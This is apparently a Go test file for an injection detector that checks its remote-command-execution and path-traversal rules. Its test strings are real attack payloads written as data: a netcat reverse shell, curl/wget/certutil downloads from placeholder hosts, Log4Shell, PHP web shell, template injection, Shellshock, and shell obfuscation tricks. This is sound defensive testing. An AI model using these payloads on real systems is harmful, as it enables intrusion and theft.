package detect

import (
	"strings"
	"testing"
)

func TestRCECaught(t *testing.T) {
	f := func(s string) {
		t.Helper()
		if fd := judgeOne(judgeOf(RCE), kindParam, s); fd.score < thresholds[Balanced] {
			t.Errorf("%q: score %d by %q", s, fd.score, fd.rule)
		}
	}
	// The three of the class file.
	f("10.0.0.7; u'na'me -a")
	f("x`curl${IFS}files.example/a`")
	f("${${lower:J}ndi:ldap://h.example/x}")
	// Short ones.
	f("1;id")
	f("| hostname")
	f("$(whoami)")
	f("& ipconfig")
	f("`uptime`")
	// Words in pieces, patterns, expansions.
	f("; c\\u\\rl 198.51.100.7")
	f("|/b?n/c[a]t /?tc/h??ts")
	f(";{tail,-n,5,/etc/group}")
	f(";he$@ad /etc/group")
	f("&& wh^oam^i")
	// Windows.
	f("& net localgroup administrators")
	f("| powershell -enc SQBFAFgA")
	f("; certutil -urlcache -f http://h.example/a.exe a.exe")
	// Complete lines.
	f("wget http://h.example/x -O /tmp/x")
	f("nc 198.51.100.7 4444 -e /bin/bash")
	// Code.
	f("';phpinfo();//")
	f("<?php passthru($_POST['x']); ?>")
	f("${@system('uname -a')}")
	f("__import__('os').popen('id').read()")
	f("require('child_process').exec('ls')")
	f("%{(#a=@java.lang.Runtime@getRuntime()).exec('id')}")
	f("T(java.lang.Runtime).getRuntime().exec('id')")
	f("class.module.classLoader.resources.x")
	f("() { x;}; /usr/bin/touch /tmp/a")
	f("O:7:\"Session\":1:{s:1:\"a\";i:1;}")
	f("rO0ABXNyABFqYXZhLnV0aWw")
	// Templates.
	f("{{''.__class__.__mro__[1].__subclasses__()}}")
}

func TestRCEClean(t *testing.T) {
	for _, k := range []kind{kindParam, kindHeader, kindName, kindText} {
		for _, s := range append(benignValues, benignTexts...) {
			if fd := judgeOne(judgeOf(RCE), k, s); fd.score >= thresholds[Balanced] {
				t.Errorf("%q: score %d by %q: %q", s, fd.score, fd.rule, s[fd.start:fd.end])
			}
		}
	}
}

// TestRCEMetamorphic multiplies commands by break-outs and by ways of
// writing words that mean the same to the shell.
func TestRCEMetamorphic(t *testing.T) {
	breakouts := []string{";%s", "; %s", "|%s", "| %s |", "||%s;", "&&%s", "& %s &", "\n%s\n", "x;%s", "1|%s", "127.0.0.1 && %s", "';%s;'", "\"|%s|\"", "`%s`", "$(%s)", "x$(%s)y", "a);%s;(", "%%0a%s"}
	commands := []string{"cat /etc/group", "uname -a", "/usr/bin/whoami", "curl http://h.example/a", "ping -c 3 198.51.100.7", "sleep 9", "ls -la /home", "head -n 5 /etc/hosts"}
	writings := []func(string) string{
		func(s string) string { return s },
		func(s string) string { return strings.ReplaceAll(s, " ", "${IFS}") },
		func(s string) string { return strings.ReplaceAll(s, " ", "$IFS$9") },
		func(s string) string { return strings.ReplaceAll(s, " ", "\t") },
		func(s string) string { return s[:1] + "''" + s[1:] },
		func(s string) string { return s[:1] + "$@" + s[1:] },
		func(s string) string { return s[:1] + "\\" + s[1:] },
	}
	for _, c := range commands {
		for i, w := range writings {
			if i > 3 && c[0] == '/' {
				continue
			}
			for _, b := range breakouts {
				s := strings.Replace(strings.ReplaceAll(b, "%%", "%"), "%s", w(c), 1)
				if fd := judgeOne(judgeOf(RCE), kindParam, s); fd.score < thresholds[Balanced] {
					t.Errorf("%q: score %d by %q", s, fd.score, fd.rule)
				}
			}
		}
	}
}

func TestReadCommand(t *testing.T) {
	f := func(in string, kind uint8, args int, mangled bool) {
		t.Helper()
		c := readCommand([]byte(in), 0, false)
		if c.kind != kind || c.args != args || c.mangled != mangled {
			t.Errorf("%q: kind %d args %d mangled %v, want %d %d %v", in, c.kind, c.args, c.mangled, kind, args, mangled)
		}
	}
	f("cat a b", cmdRead, 2, false)
	f("w'h'o\"a\"mi", cmdInfo, 0, true)
	f("{cat,/a,/b}", cmdRead, 2, true)
	f("A=1 sudo uname -a", cmdInfo, 1, false)
	f(`C:\Windows\System32\whoami.exe`, cmdInfo, 0, false)
	f("nothing here", cmdNone, 0, false)
	f("echo \"a b\" c", cmdPrint, 2, false)
	f("", cmdNone, 0, false)
}

func TestRCEScore(t *testing.T) {
	// A finding's evidence lies inside the value.
	for _, s := range []string{";id", "a`ls -l`", "${jndi:x", "<?=`id`", "system('id"} {
		fd := judgeOne(judgeOf(RCE), kindParam, s)
		if fd.score == 0 || fd.start < 0 || fd.start >= fd.end || fd.end > len(s) || fd.rule == "" || fd.why == "" {
			t.Errorf("%q: %+v", s, fd)
		}
	}
}

func TestJudgesDoNotAllocate(t *testing.T) {
	for _, c := range []Class{RCE, PTrav} {
		j := judgeOf(c)
		s := &Scratch{}
		for _, in := range append([]string{";cat ../../etc/passwd", "${${::-j}ndi:x}", "{{7*7}}"}, benignTexts...) {
			v := value{b: []byte(in)}
			v.f = scan(v.b)
			if n := testing.AllocsPerRun(10, func() { j.judge(&v, s) }); n != 0 {
				t.Errorf("%v allocates %v on %q", c, n, in)
			}
		}
	}
}

func FuzzJudges(f *testing.F) {
	for _, s := range benignTexts {
		f.Add([]byte(s))
	}
	for _, s := range []string{";i\\d", "$IFS$9", "${${", "{{'", "O:1:\"", "%25%", "() {", "<!--#", "\"&\"a\"&\"", "{a,b}", "T(java."} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		for _, c := range []Class{RCE, PTrav} {
			v := value{b: b, f: scan(b)}
			fd := judgeOf(c).judge(&v, &Scratch{})
			if fd.score > 0 && (fd.start < 0 || fd.start > fd.end || fd.end > len(b)) {
				t.Fatalf("%v: %q: %+v", c, b, fd)
			}
			if fd.score >= thresholds[High] && !judgeOf(c).maybe(v.f, len(b)) {
				t.Fatalf("%v: the prefilter lets %q pass", c, b)
			}
		}
	})
}

func BenchmarkJudgeRCE(b *testing.B) { benchmarkJudge(b, RCE) }
